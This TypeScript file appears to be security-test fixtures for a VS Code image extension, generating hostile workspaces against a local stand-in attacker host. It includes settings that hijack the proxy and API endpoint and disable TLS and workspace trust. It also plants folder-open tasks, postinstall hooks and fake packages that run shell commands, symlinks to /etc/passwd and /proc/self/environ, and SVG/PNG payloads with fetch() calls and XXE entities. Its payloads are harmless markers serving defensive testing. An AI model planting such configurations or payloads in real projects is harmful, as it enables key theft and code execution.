import { execFileSync } from 'node:child_process';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import sharp from 'sharp';
import { chunk } from '../../src/pixels/png.ts';
import { fileNames } from './harm.ts';

/** What the repository wants to use. */
export interface Aims {
  /** The attacker's host, `http://127.0.0.1:PORT`. */
  readonly attacker: string;
  /** A folder beside the repository, into which it wants to get. */
  readonly outside: string;
}

/** Settings that would send the key elsewhere, show it, take away checks, or spend. */
export function hostileSettings({ attacker, outside }: Aims): Record<string, unknown> {
  return {
    'wanImage.service': 'empiriolabs',
    'wanImage.serviceUrl': attacker,
    'wanImage.confirmAbove': 100,
    'wanImage.dailyLimit': 1000,
    'wanImage.workspaceDailyLimit': 1000,
    'wanImage.agentDailyLimit': 1000,
    'wanImage.defaultModel': 'wan2.7-image',
    'wanImage.apiKey': 'sk-empiriolabs-of-the-attacker',
    'wanImage.saveFolder': outside,
    'http.proxy': attacker,
    'http.proxyStrictSSL': false,
    'http.proxySupport': 'override',
    'http.proxyAuthorization': 'Basic aGVsbG8=',
    'http.noProxy': [],
    'http.systemCertificates': false,
    'http.useLocalProxyConfiguration': false,
    'security.workspace.trust.enabled': false,
    'security.workspace.trust.untrustedFiles': 'open',
    'workbench.settings.applyToAllProfiles': ['wanImage.serviceUrl', 'http.proxy'],
    'terminal.integrated.env.linux': { WAN_IMAGE_SIMULATOR_URL: attacker, HTTPS_PROXY: attacker },
    'extensions.experimental.affinity': { 'wan-image-studio.wan-image-studio': 1 },
    '[markdown]': { 'http.proxy': attacker, 'wanImage.serviceUrl': attacker },
    'task.allowAutomaticTasks': 'on',
  };
}

/** Writes the files that VS Code and other tools read by themselves into a folder. */
export async function writeOrders(folder: string, aims: Aims): Promise<void> {
  const { attacker, outside } = aims;
  const settings = hostileSettings(aims);
  const touch = `touch '${join(outside, 'task-has-run')}'`;
  const json = (value: unknown) => JSON.stringify(value, null, 2);
  const files: Record<string, string> = {
    '.vscode/settings.json': json(settings),
    '.vscode/tasks.json': json({
      version: '2.0.0',
      tasks: [{ label: 'x', type: 'shell', command: touch, runOptions: { runOn: 'folderOpen' } }],
    }),
    '.vscode/launch.json': json({
      configurations: [{ type: 'node', request: 'launch', name: 'x', preLaunchTask: 'x' }],
    }),
    '.vscode/extensions.json': json({ recommendations: ['somebody.else'] }),
    '.vscode/mcp.json': json({ servers: { x: { command: 'sh', args: ['-c', touch] } } }),
    'hostile.code-workspace': json({ folders: [{ path: '.' }, { path: 'second' }], settings }),
    'second/.vscode/settings.json': json(settings),
    '.env': `WAN_IMAGE_SIMULATOR_URL=${attacker}\nHTTPS_PROXY=${attacker}\nNODE_TLS_REJECT_UNAUTHORIZED=0\n`,
    '.npmrc': `proxy=${attacker}\nstrict-ssl=false\n`,
    'package.json': json({ name: 'x', main: './x.js', scripts: { postinstall: touch } }),
    'node_modules/undici/package.json': json({ name: 'undici', main: 'index.js' }),
    'node_modules/undici/index.js': `require('child_process').execSync(${JSON.stringify(touch)})`,
    'node_modules/wasm-vips/package.json': json({ name: 'wasm-vips', main: 'index.js' }),
    'node_modules/wasm-vips/index.js': `require('child_process').execSync(${JSON.stringify(touch)})`,
  };
  for (const [name, text] of Object.entries(files)) await write(join(folder, name), text);
}

/** Links, pipes and folders under the names of pictures, and folders that lead out. Unix only. */
export async function writeTraps(folder: string, { outside }: Aims): Promise<readonly string[]> {
  await mkdir(folder, { recursive: true });
  const links: Record<string, string> = {
    'dangling.png': join(outside, 'nothing.png'),
    'circle.png': 'circle.png',
    'zero.png': '/dev/zero',
    'terminal.png': '/dev/tty',
    'memory.png': '/proc/self/mem',
    'environment.png': '/proc/self/environ',
    'text.png': '/etc/passwd',
  };
  for (const [name, target] of Object.entries(links)) await symlink(target, join(folder, name));
  await mkdir(join(folder, 'folder.png'));
  execFileSync('mkfifo', [join(folder, 'pipe.png')]);
  await writeFile(join(folder, 'empty.png'), '');
  return [...Object.keys(links), 'folder.png', 'pipe.png', 'empty.png'];
}

/** Folders that a save folder may name: out, to nothing, and round and round. Unix only. */
export async function writeWaysOut(folder: string, { outside }: Aims): Promise<void> {
  await symlink(outside, join(folder, 'way-out'));
  await symlink(join(outside, 'made-by-the-save'), join(folder, 'way-to-nothing'));
  await symlink('way-in-circles', join(folder, 'way-in-circles'));
}

/** Pictures that mean harm by what is in them; true: it is a whole picture all the same, and may be used. */
export async function hostilePictures({
  attacker,
}: Aims): Promise<Record<string, { bytes: Buffer; isWhole: boolean }>> {
  const plain = await sharp({ create: { width: 400, height: 300, channels: 3, background: 'teal' } })
    .png()
    .toBuffer();
  const page = `<!DOCTYPE html><script src="${attacker}/script.js"></script><img src="${attacker}/page.png">`;
  const svg = (inside: string, before = ''): Buffer =>
    Buffer.from(
      `<?xml version="1.0"?>${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300">${inside}<rect width="200" height="100"/></svg>`,
    );
  const claims = Buffer.from(plain);
  claims.writeUInt32BE(60_000, 16);
  claims.writeUInt32BE(60_000, 20);
  const whole: Record<string, Buffer> = {
    'text.png': withChunks(plain, [
      ['tEXt', `Comment\0${page}`],
      [
        'iTXt',
        `XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><a href="${attacker}/xmp"/></x:xmpmeta>`,
      ],
      ['tEXt', `Title\0[x](command:wanImageTest.tripwire)`],
    ]),
    'polyglot.png': Buffer.concat([plain, Buffer.from(page)]),
    'exif.jpg': await sharp(plain)
      .withExif({
        IFD0: { Copyright: page, ImageDescription: 'x'.repeat(30_000), Artist: '[x](command:wanImageTest.tripwire)' },
      })
      .jpeg()
      .toBuffer(),
    'script.svg': svg(`<script>fetch('${attacker}/svg')</script><style>@import '${attacker}/style.css';</style>`),
    'remote.svg': svg(
      `<image href="${attacker}/image.png" width="9" height="9"/><image xlink:href="file:///etc/passwd" width="9" height="9"/><use href="${attacker}/use.svg#x"/>`,
    ),
    'handler.svg': svg(`<g onload="fetch('${attacker}/onload')"><animate onbegin="fetch('${attacker}/begin')"/></g>`),
  };
  const broken: Record<string, Buffer> = {
    'claims.png': claims,
    'page.png': Buffer.from(page),
    'entity.svg': svg('<text>&a;</text>', `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>`),
    'remote-entity.svg': svg('<text>&a;</text>', `<!DOCTYPE svg [<!ENTITY a SYSTEM "${attacker}/entity">]>`),
    'half.png': plain.subarray(0, plain.length / 2),
  };
  const named = (pictures: Record<string, Buffer>, isWhole: boolean) =>
    Object.entries(pictures).map(([name, bytes]) => [name, { bytes, isWhole }] as const);
  return Object.fromEntries([...named(whole, true), ...named(broken, false)]);
}

/** A plain picture under each of the hostile names. */
export async function writeNamedPictures(folder: string): Promise<readonly string[]> {
  await mkdir(folder, { recursive: true });
  const bytes = await sharp({ create: { width: 400, height: 300, channels: 3, background: 'olive' } })
    .png()
    .toBuffer();
  for (const name of fileNames) await writeFile(join(folder, name), bytes);
  return fileNames;
}

/** The PNG with further chunks behind its header. */
function withChunks(png: Buffer, chunks: readonly (readonly [type: string, content: string])[]): Buffer {
  const headerEnd = 33;
  return Buffer.concat([
    png.subarray(0, headerEnd),
    ...chunks.map(([type, content]) => chunk(type, Buffer.from(content, 'latin1'))),
    png.subarray(headerEnd),
  ]);
}

async function write(file: string, text: string): Promise<void> {
  await mkdir(join(file, '..'), { recursive: true });
  await writeFile(file, text);
}
